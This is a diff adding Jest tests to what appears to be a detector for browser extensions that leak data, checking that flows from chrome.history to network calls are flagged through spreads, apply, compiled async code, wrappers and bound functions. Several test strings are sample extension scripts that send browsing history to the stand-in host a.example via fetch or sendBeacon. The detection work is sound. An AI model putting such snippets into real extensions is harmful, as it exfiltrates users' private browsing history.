@@ -21,6 +21,33 @@ describe('functions', () => {
     expect(await pairs(sample({ background: 'function maker(send) { return function (h) { send(h); }; } chrome.history.search({}, maker((x) => navigator.sendBeacon("https://a.example", x)));' }))).toContain('history > network');
   });
 
+  it('follows lists that are spread or applied as arguments', async () => {
+    const send = 'function send(where, what) { fetch("https://a.example", { body: what }); }';
+    expect(await pairs(sample({ background: `${send} chrome.history.search({}, (h) => { const list = [0, h]; send(...list); });` }))).toContain('history > network');
+    expect(await pairs(sample({ background: `${send} chrome.history.search({}, (h) => { const list = [0]; list.push(h); send.apply(null, list); });` }))).toContain('history > network');
+    expect(await pairs(sample({ background: `${send} chrome.history.search({}, (h) => { const list = [h.length]; send(...list); });` }))).toEqual([]);
+  });
+
+  it('follows what compilers make of async functions', async () => {
+    const babel = (sent: string): string => `function read() { return _read.apply(this, arguments); } function _read() { _read = _asyncToGenerator(regeneratorRuntime.mark(function c() { var h; return regeneratorRuntime.wrap(function c$(_context) { while (1) switch (_context.prev = _context.next) { case 0: _context.next = 2; return chrome.history.search({}); case 2: h = _context.sent; return _context.abrupt("return", ${sent}); } }, c); })); return _read.apply(this, arguments); } read().then(function (x) { fetch("https://a.example", { body: x }); });`;
+    expect(await pairs(sample({ background: babel('h') }))).toContain('history > network');
+    expect(await pairs(sample({ background: babel('h.length') }))).toEqual([]);
+    const typescript = (sent: string): string => `function read() { return __awaiter(this, void 0, void 0, function () { var h; return __generator(this, function (_a) { switch (_a.label) { case 0: return [4, chrome.history.search({})]; case 1: h = _a.sent(); return [2, ${sent}]; } }); }); } read().then(function (x) { fetch("https://a.example", { body: x }); });`;
+    expect(await pairs(sample({ background: typescript('h') }))).toContain('history > network');
+    expect(await pairs(sample({ background: typescript('h.length') }))).toEqual([]);
+  });
+
+  it('knows parts of the interface that are handed on, and wrappers of them', async () => {
+    expect(await pairs(sample({ background: 'class Service { constructor(api) { this.api = api; } async all() { return this.api.search({}); } } new Service(chrome.history).all().then((h) => fetch("https://a.example", { body: h }));' }))).toContain('history > network');
+    expect(await pairs(sample({ background: 'const later = (fn) => (...args) => new Promise((done) => fn(...args, done)); const search = later(chrome.history.search); const query = later(chrome.windows.getAll); search({}).then((h) => log(h)); query({}).then((w) => fetch("https://a.example", { body: w })); function log() {}' }))).toEqual([]);
+    expect(await pairs(sample({ background: 'const later = (fn) => (...args) => new Promise((done) => fn(...args, done)); const search = later(chrome.history.search); search({}).then((h) => fetch("https://a.example", { body: h }));' }))).toContain('history > network');
+  });
+
+  it('keeps the `this` that a function is bound to', async () => {
+    expect(await pairs(sample({ background: 'class Box { start() { chrome.history.search({}, function (h) { this.data = h; this.send(); }.bind(this)); } send() { fetch("https://a.example", { body: this.data }); } } new Box().start();' }))).toContain('history > network');
+    expect(await pairs(sample({ background: 'class Box { start() { chrome.history.search({}, function (h) { this.data = h; }); } send() { fetch("https://a.example", { body: this.data }); } } new Box().start();' }))).toEqual([]);
+  });
+
   it('keeps properties of an object apart', async () => {
     expect(await pairs(sample({ background: 'chrome.history.search({}, (h) => { const o = { a: h, b: "x" }; fetch("https://a.example", { body: o.b }); });' }))).toEqual([]);
     expect(await pairs(sample({ background: 'chrome.history.search({}, (h) => { const o = {}; o.list = h; const { list: [first, ...rest] } = o; fetch("https://a.example", { body: first.url }); });' }))).toContain('history > network');
